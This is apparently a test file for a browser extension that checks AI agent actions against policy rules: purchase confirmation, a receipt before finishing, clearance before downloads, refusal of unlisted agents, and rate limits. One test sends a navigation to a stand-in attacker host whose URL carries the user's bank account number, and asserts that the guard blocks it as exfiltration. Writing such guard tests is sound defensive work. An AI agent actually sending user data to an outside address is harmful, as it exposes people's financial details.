// An agent extension that a person or organisation has let in declares itself, asks in advance and reports facts; another one hears no.
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { after, test } from 'node:test';
import { extensionId } from '../../scripts/browser.mjs';
import { agentFolder } from '../agents/extension-agent.mjs';
import { playwrightHands } from '../agents/playwright.mjs';
import { addToCart, searchShop, signInToBank } from '../agents/tasks.mjs';
import { sceneOf } from '../attacks/attempt.mjs';
import { leaked } from '../sites/leaks.mjs';
import { flagsFor, startSites } from '../sites/server.mjs';
import { urlOf } from '../sites/world.mjs';
import { managedMissing, policyFile } from './policy-file.mjs';
import { openPopup } from './popup-of.mjs';
import { extension } from './with-guard.mjs';

const DESK = `
interlock: 1
name: desk
rules:
  - id: cleared-first
    verdict: block
    on: download
    where: actor == agent
    unless: once(fact where fact.name == "cleared" and fact.args.desk == 7)
    because: The desk has not cleared this.
  - id: receipt-first
    verdict: block
    on: finish
    where: actor == agent
    unless: once(fact where fact.name == "receipt")
    because: No receipt was kept.
    instead: Keep the receipt, then finish.
`;

/** One browser with us and two agents, of which the organisation lets in the first. */
let shared;
async function withAgents(tell) {
  shared ??= await opened();
  await tell(shared);
}

async function opened() {
  const folders = [agentFolder(), agentFolder()];
  const [allowed, stranger] = folders.map(extensionId);
  const file = policyFile({ agents: [allowed], policy: DESK });
  const sites = await startSites();
  const args = flagsFor(sites);
  const hands = await playwrightHands({ extension, others: folders, executable: file.executable, args });
  /** Sends as the agent does: from its own worker. */
  const asAgent = (id) => async (name, request) => {
    const worker = hands.context.serviceWorkers().find((one) => one.url().includes(id));
    return worker.evaluate(
      ([to, message]) => chrome.runtime.sendMessage(to, message),
      [hands.id, { interlock: 1, name, request }],
    );
  };
  const tabOf = async (id) => {
    const worker = hands.context.serviceWorkers().find((one) => one.url().includes(id));
    return worker.evaluate(
      async (url) => (await chrome.tabs.query({})).find((tab) => tab.url === url)?.id,
      hands.page.url(),
    );
  };
  const close = async () => {
    await hands.close();
    await sites.close();
    file.remove();
    for (const folder of folders) rmSync(folder, { recursive: true, force: true });
  };
  return { scene: sceneOf(hands, sites), sites, hands, asAgent, tabOf, allowed, stranger, close };
}
after(() => shared?.close());

/** The browser hands out managed values a second or more after its start. */
async function untilLetIn(ask, tab) {
  for (let left = 50; left > 0; left -= 1) {
    const answer = await ask('agent.declare', { tab });
    if (!answer.refused) return answer;
    await new Promise((later) => setTimeout(later, 2_000));
  }
  throw new Error('the agent was never let in');
}

const options = { timeout: 240_000, skip: managedMissing() };

test('an agent that is let in declares itself and asks in advance; nothing is done by asking', options, () =>
  withAgents(async ({ scene, sites, hands, asAgent, tabOf, allowed, stranger }) => {
    const agent = asAgent(allowed);
    await hands.goto(urlOf('shop', '/'));
    const tab = await tabOf(allowed);
    assert.deepEqual(await untilLetIn(agent, tab), { declared: true });
    const state = await (await openPopup(hands)).state();
    const counted = ({ questions, counts }) => [questions.length, counts.asked, counts.stopped];
    assert.equal(state.driver.state, 'agent');
    assert.ok(state.driver.evidence.includes(`declared by the extension ${allowed}`), state.driver.evidence.join());

    const no = await asAgent(stranger)('agent.check', { tab, action: { kind: 'click' } });
    assert.equal(no.refused, 'not-allowed');
    assert.deepEqual(Object.keys(no).sort(), ['refused', 'say']);

    await hands.page.bringToFront();
    await searchShop(hands);
    await addToCart(hands);
    await hands.goto(urlOf('shop', '/checkout'));
    const order = { kind: 'submit', dest: { url: '/order', method: 'post' }, target: { name: 'Place order' } };
    const answer = await agent('agent.check', { tab, action: order });
    assert.equal(answer.verdict, 'ask', JSON.stringify(answer));
    assert.ok(answer.rules.includes('confirm-purchase'));
    assert.match(answer.reason, /confirm-purchase/);
    assert.ok(answer.alternative.length > 5);
    assert.equal((await agent('agent.check', { tab, action: { kind: 'click' } })).verdict, 'allow');
    // As the same press in the page, which every reply in a forum is.
    const reply = { kind: 'click', target: { name: 'Post reply' } };
    assert.equal((await agent('agent.check', { tab, action: reply })).verdict, 'allow');
    const later = await (await openPopup(hands)).state();
    assert.deepEqual(counted(later), counted(state));
    assert.equal(scene.world.shop.orders.length, 0);

    await hands.page.bringToFront();
    await signInToBank(hands, scene.world);
    await hands.wait(2_000);
    const { account } = scene.world.person;
    const away = { kind: 'navigate', dest: { url: `https://collector-attacker.example/c?d=${account}` } };
    const blocked = await agent('agent.check', { tab, action: away });
    assert.equal(blocked.verdict, 'block', JSON.stringify(blocked));
    assert.ok(blocked.rules.includes('exfiltration-by-address'));
    assert.ok(!JSON.stringify(blocked).includes(account), 'the answer tells the data');
    assert.deepEqual(leaked(sites.collector.records, { account }), []);
  }),
);

test('an agent that says it is done hears what is left to do first, and is let finish once it is done', options, () =>
  withAgents(async ({ hands, asAgent, tabOf, allowed, stranger }) => {
    const agent = asAgent(allowed);
    await hands.goto(urlOf('shop', '/'));
    const tab = await tabOf(allowed);
    await untilLetIn(agent, tab);
    assert.equal((await asAgent(stranger)('agent.finish', { tab })).refused, 'not-allowed');
    const before = await (await openPopup(hands)).state();
    await hands.page.bringToFront();
    const early = await agent('agent.finish', { tab });
    assert.deepEqual([early.verdict, early.rules], ['block', ['receipt-first']], JSON.stringify(early));
    assert.match(early.reason, /No receipt was kept.*Keep the receipt, then finish/);
    const { counts } = await (await openPopup(hands)).state();
    assert.equal(counts.stopped, before.counts.stopped + 1, 'the person isn’t told');
    await hands.page.bringToFront();
    await agent('agent.fact', { tab, fact: { name: 'receipt' } });
    assert.deepEqual(await agent('agent.finish', { tab }), { verdict: 'allow', rules: [] });
    const { driver } = await (await openPopup(hands)).state();
    assert.equal(driver.state, 'agent', 'finishing ended the session, which is the person’s to end');
  }),
);

test('a fact that an agent reports is read by the rules, and only well-formed messages count', options, () =>
  withAgents(async ({ hands, asAgent, tabOf, allowed, stranger }) => {
    const agent = asAgent(allowed);
    await hands.goto(urlOf('shop', '/'));
    const tab = await tabOf(allowed);
    await untilLetIn(agent, tab);
    const download = { tab, action: { kind: 'download' } };
    assert.equal((await agent('agent.check', download)).verdict, 'block');
    const cleared = { tab, fact: { name: 'cleared', args: { desk: 7 } } };
    assert.equal((await asAgent(stranger)('agent.fact', cleared)).refused, 'not-allowed');
    assert.equal((await agent('agent.check', download)).verdict, 'block', 'a stranger’s fact was heard');
    for (const bad of [
      { tab, fact: { name: 'Cleared!' } },
      { tab, fact: { name: 'cleared', args: { desk: [7] } } },
      { tab: 'x' },
    ])
      assert.equal((await agent('agent.fact', bad)).refused, 'malformed');
    assert.equal((await agent('popup.pack', { pack: 'watch' })).refused, 'malformed', 'another party’s row was open');
    assert.equal((await agent('agent.declare', { tab: 999_999 })).refused, 'no-such-tab');
    assert.deepEqual(await agent('agent.fact', cleared), { noted: true });
    assert.equal((await agent('agent.check', download)).verdict, 'allow');
    // Last, since nothing is heard of this agent for a minute then.
    const many = await Promise.all(Array.from({ length: 40 }, () => agent('agent.check', download)));
    assert.ok(
      many.some(({ refused }) => refused === 'too-many'),
      'no bound on asking',
    );
  }),
);
